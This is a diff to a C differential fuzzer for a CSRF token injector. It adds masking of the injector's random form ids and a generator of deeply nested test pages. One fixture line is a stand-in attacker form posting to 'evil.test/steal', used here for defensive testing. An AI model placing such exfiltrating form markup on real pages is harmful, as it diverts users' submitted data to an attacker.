@@ -15,6 +15,16 @@
  * forms injected. The first difference is printed (input, path, the
  * feeding) and the exit status is 1.
  *
+ * A form read deep in the tree gets the injector's random id (docs/
+ * architecture.md, "The tree depth cap"): id="csrf-" and 16 characters
+ * after "<form", form="csrf-..." on its field, an insertion counted more.
+ * Both outputs are compared with those taken out (the count too), so a
+ * revision without them compares; and the working tree's output, the 16
+ * characters masked, must be the same on every path and feeding of an
+ * input (its first run's), so that no path counts the tags differently.
+ * So must its CSRF_INJECT_DEEP bit, which is not compared with the
+ * revision's (it reports forms with an id deep in the tree).
+ *
  * Usage: inject-differential [-s SECONDS] [-r ROUNDS] [-v] FILE...
  * The first round is every file and the generated tag shapes, every
  * feeding above; later rounds, until SECONDS (default 60) or ROUNDS have
@@ -66,6 +76,7 @@ struct out {
 	size_t n, cap;
 	unsigned log[64];
 	size_t log_n;
+	unsigned status; /* csrf_inject_status at the end, CSRF_INJECT_DEEP in it */
 };
 
 static void out_put(struct out *o, const char *p, size_t n, char kind)
@@ -139,7 +150,11 @@ static void run(struct side *s, const char *in, size_t len, const struct feeding
 		at = f->cuts[k];
 	}
 	unsigned injected = 0;
-	out_log(o, s->status(inj));
+	/* CSRF_INJECT_DEEP: the working tree's report of a form with an id
+	 * of its own deep in the tree after a ghost (a revision without it
+	 * compares), kept apart */
+	o->status = s->status(inj);
+	out_log(o, o->status & ~(unsigned)CSRF_INJECT_DEEP);
 	out_log(o, s->finish(inj, emit, o, &injected));
 	out_log(o, injected);
 }
@@ -157,12 +172,113 @@ static void show(const char *what, const char *b, size_t n, size_t at)
 	fprintf(stderr, "\"\n");
 }
 
+/* 16 base64url characters at p (or masked: '#'). */
+static int id_chars(const char *p)
+{
+	for (int k = 0; k < 16; k++) {
+		unsigned char c = (unsigned char)p[k];
+		if (!((c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') || c == '-' ||
+		      c == '_' || c == '#'))
+			return 0;
+	}
+	return 1;
+}
+
+/* The injector's ids in o's inserted bytes: masked ('#'), or taken out
+ * (the id piece, the field's form="", and the count's share); returns
+ * how many ids there were. */
+static size_t ids_out(struct out *o, int remove)
+{
+	static const char id[] = " id=\"csrf-", form[] = " form=\"csrf-";
+	size_t w = 0, ids = 0;
+	for (size_t r = 0; r < o->n;) {
+		size_t l = 0;
+		if (o->kind[r] == 'i') {
+			if (o->n - r >= sizeof id + 16 && memcmp(o->b + r, id, sizeof id - 1) == 0 &&
+			    id_chars(o->b + r + sizeof id - 1) && o->b[r + sizeof id - 1 + 16] == '"')
+				l = sizeof id - 1 + 17, ids++;
+			else if (o->n - r >= sizeof form + 16 && memcmp(o->b + r, form, sizeof form - 1) == 0 &&
+			         id_chars(o->b + r + sizeof form - 1) && o->b[r + sizeof form - 1 + 16] == '"')
+				l = sizeof form - 1 + 17;
+		}
+		if (l && remove) {
+			r += l;
+			continue;
+		}
+		if (l)
+			memset(o->b + r + l - 17, '#', 16);
+		size_t m = l ? l : 1;
+		memmove(o->b + w, o->b + r, m);
+		memmove(o->kind + w, o->kind + r, m);
+		w += m;
+		r += m;
+	}
+	o->n = w;
+	if (remove && o->log_n) /* the count is the last result (folded in last past 63) */
+		o->log[o->log_n - 1] -= (unsigned)ids;
+	return ids;
+}
+
+static long pinned_runs, deep_runs;
+static char pinned_names[10][96];
+static size_t pinned_named;
+
+/* The working tree's masked output of the input being compared, its first
+ * run: every later run of the same bytes and options must match it. */
+static struct out ref;
+static char *ref_in;
+static size_t ref_len;
+static unsigned ref_options;
+
+static void check_same_masked(const char *name, const char *in, size_t len, const struct feeding *f, int path,
+                              const struct out *o)
+{
+	if (!ref_in || ref_len != len || ref_options != f->options || memcmp(ref_in, in, len) != 0) {
+		free(ref_in);
+		ref_in = malloc(len + 1);
+		memcpy(ref_in, in, len);
+		ref_len = len;
+		ref_options = f->options;
+		ref.n = 0;
+		out_put(&ref, o->b, o->n, 'p');
+		memcpy(ref.kind, o->kind, o->n);
+		ref.status = o->status;
+		return;
+	}
+	/* the bytes and which are inserted: the results differ with the feeding */
+	if (ref.n == o->n && memcmp(ref.b, o->b, o->n) == 0 && memcmp(ref.kind, o->kind, o->n) == 0 &&
+	    (ref.status & CSRF_INJECT_DEEP) == (o->status & CSRF_INJECT_DEEP))
+		return;
+	differences++;
+	fprintf(stderr,
+	        "DIFFERENCE in the working tree: %s, path %s, fed %s: not its first run's output (ids masked)\n", name,
+	        path_names[path], f->name);
+	if (differences >= 5)
+		exit(1);
+}
+
 static void compare(const char *name, const char *in, size_t len, const struct feeding *f, int path)
 {
 	static struct out o[2];
 	for (int k = 0; k < 2; k++)
 		run(&sides[k], in, len, f, &o[k]);
 	compared++;
+	/* the working tree's ids: the same masked on every path and feeding,
+	 * then taken out of both sides */
+	ids_out(&o[1], 0);
+	check_same_masked(name, in, len, f, path, &o[1]);
+	if (o[1].status & CSRF_INJECT_DEEP)
+		deep_runs++;
+	if (ids_out(&o[1], 1)) {
+		if (pinned_runs++ == 0 || pinned_named < 10) {
+			int seen = 0;
+			for (size_t k = 0; k < pinned_named; k++)
+				seen |= strcmp(pinned_names[k], name) == 0;
+			if (!seen && pinned_named < 10)
+				snprintf(pinned_names[pinned_named++], sizeof pinned_names[0], "%s", name);
+		}
+	}
+	ids_out(&o[0], 1);
 	if (o[0].n == o[1].n && memcmp(o[0].b, o[1].b, o[0].n) == 0 && memcmp(o[0].kind, o[1].kind, o[0].n) == 0 &&
 	    o[0].log_n == o[1].log_n && memcmp(o[0].log, o[1].log, o[0].log_n * sizeof o[0].log[0]) == 0)
 		return;
@@ -428,6 +544,49 @@ static void gen_shapes(void)
 	}
 }
 
+/* Pages deep in the tree (docs/architecture.md, "The tree depth cap"):
+ * tag shapes of every kind the plain paths take or hand back, then the
+ * attacker's ghost or none, <i> tags and the site's form, with and
+ * without an id of its own, on both sides of the bound's guard. */
+static void gen_deep(void)
+{
+	static const char *soup[] = {"<p>x</p>",
+	                             "<a href=\"/p?a=1&amp;b=2\">l</a>",
+	                             "<b>",
+	                             "</b>",
+	                             "<div class='a>b'>",
+	                             "<br/>",
+	                             "<span\ttitle=x>",
+	                             "<!-- <form> -->",
+	                             "<button>go</button>",
+	                             "<input name=q>",
+	                             "<table></table>",
+	                             "<td>",
+	                             "<i a=\"<b>\">",
+	                             "</span >"};
+	static const char *pre[] = {"", "<form method=get action=//evil.test/steal><div></form>"};
+	static const char *form[] = {"<form method=post action=/send>", "<form id=send method=post action=/send>",
+	                             "<form/method=post>", "<form method=post\n>"};
+	size_t cap = 1 << 16;
+	char *page = malloc(cap);
+	for (size_t v = 0; v < 2 * 4 * 4; v++) {
+		size_t n = 0, k = 0;
+		n += (size_t)snprintf(page + n, cap - n, "%s", pre[v % 2]);
+		while (n < 3000)
+			n += (size_t)snprintf(page + n, cap - n, "%s", soup[k++ % (sizeof soup / sizeof *soup)]);
+		/* the bound at about 230 so far: <i> tags around the guard */
+		size_t is = 244 + v / 2;
+		for (size_t j = 0; j < is; j++)
+			n += (size_t)snprintf(page + n, cap - n, "<i>");
+		n += (size_t)snprintf(page + n, cap - n, "%s<input name=msg><button>Send</button></form>",
+		                      form[(v / 2) % 4]);
+		char nm[64];
+		snprintf(nm, sizeof nm, "deep %zu", v);
+		add_input(nm, page, n);
+	}
+	free(page);
+}
+
 /* A mutation of an input: bytes changed, a shape spliced in, a run cut. */
 static char *mutate(const struct input *in, size_t *n)
 {
@@ -500,6 +659,7 @@ int main(int argc, char **argv)
 			return 2;
 		}
 	gen_shapes();
+	gen_deep();
 	for (int k = 0; k < 2; k++)
 		if (!(sides[k].mem = malloc(sides[k].size())))
 			return 2;
@@ -535,6 +695,12 @@ int main(int argc, char **argv)
 		}
 	}
 	fprintf(stderr, "round 0: %ld runs compared, %ld differences (%.0f s)\n", compared, differences, now() - start);
+	fprintf(stderr, "runs with the injector's ids (forms deep in the tree): %ld, in", pinned_runs);
+	for (size_t k = 0; k < pinned_named; k++)
+		fprintf(stderr, " %s%s", pinned_names[k], k + 1 < pinned_named ? "," : "\n");
+	if (!pinned_named)
+		fprintf(stderr, " none\n");
+	fprintf(stderr, "runs reporting CSRF_INJECT_DEEP: %ld\n", deep_runs);
 
 	/* later rounds: random feedings, shifts and mutations until the time is up */
 	long round = 1;
